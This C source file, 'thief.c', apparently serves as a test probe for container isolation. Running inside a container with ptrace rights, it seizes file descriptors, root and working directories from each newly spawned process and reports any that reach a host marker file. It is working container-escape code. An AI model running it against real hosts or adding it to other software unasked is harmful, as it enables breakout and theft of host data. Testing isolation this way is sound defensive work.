/* thief.c OWN_NAME: in a container with CAP_SYS_PTRACE, waits for each next process of its pid namespace and takes what that
 * has: descriptors by pidfd_getfd(2) and /proc/PID/fd, its root and its working directory. Prints a line for each that the
 * container has not itself, and "ready" first. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static struct stat root;

/* A directory of another file system than the root's, or the root of one: the host's. */
static void judge(const char *how, int pid, int number, int fd) {
    struct stat it;
    char way[64], name[4096] = "?";
    if (fstat(fd, &it) != 0) return;
    if (!S_ISDIR(it.st_mode) && !(S_ISREG(it.st_mode) && number > 2)) return;
    int ours = S_ISDIR(it.st_mode) && it.st_dev == root.st_dev && it.st_ino == root.st_ino;
    snprintf(way, sizeof way, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(way, name, sizeof name - 1);
    if (n > 0) name[n] = 0;
    /* What is reached from there that is not reached from here. */
    int secret = openat(fd, "secret-of-the-host", O_RDONLY), above = openat(fd, "../secret-of-the-host", O_RDONLY);
    int below = openat(fd, "mnt/secret-of-the-host", O_RDONLY), any = secret >= 0 || above >= 0 || below >= 0;
    if (!ours || any) printf("%s of %d: %d is %s%s\n", how, pid, number, name, any ? ", SECRET" : ""), fflush(stdout);
    if (below >= 0) close(below);
    if (secret >= 0) close(secret);
    if (above >= 0) close(above);
}

int main(int argc, char **argv) {
    if (stat("/", &root) != 0) return 1;
    printf("ready\n"), fflush(stdout);
    int next = getpid() + 1, last, loadavg = open("/proc/loadavg", O_RDONLY);
    for (unsigned round = 0;; round++) {
        char line[128] = "";
        /* Those that were missed: the last field is the last pid that was given. */
        if (round % 64 == 0 && pread(loadavg, line, sizeof line - 1, 0) > 0
            && sscanf(line, "%*s %*s %*s %*s %d", &last) == 1 && last >= next)
            next = last;
        int pidfd = -1, pid = next;
        /* Others may make processes, too. */
        for (; pid < next + 3; pid++)
            if ((pidfd = syscall(SYS_pidfd_open, pid, 0)) >= 0) break;
        if (pidfd < 0) continue;
        next = pid + 1;
        char way[64];
        for (int turn = 0; turn < 400; turn++) {
            int gone = 1;
            for (int number = 0; number < 16; number++) {
                int fd = syscall(SYS_pidfd_getfd, pidfd, number, 0);
                if (fd >= 0) judge("pidfd_getfd", pid, number, fd), close(fd), gone = 0;
                snprintf(way, sizeof way, "/proc/%d/fd/%d", pid, number);
                fd = open(way, O_PATH);
                if (fd >= 0) judge("/proc/PID/fd", pid, number, fd), close(fd), gone = 0;
            }
            static const char *const links[] = {"root", "cwd"};
            for (int n = 0; n < 2; n++) {
                snprintf(way, sizeof way, "/proc/%d/%s", pid, links[n]);
                int fd = open(way, O_PATH);
                if (fd >= 0) judge(links[n], pid, -1, fd), close(fd), gone = 0;
            }
            snprintf(way, sizeof way, "/proc/%d/stat", pid);
            if (gone && access(way, F_OK) != 0) break;
        }
        close(pidfd);
        round = 0;
    }
}
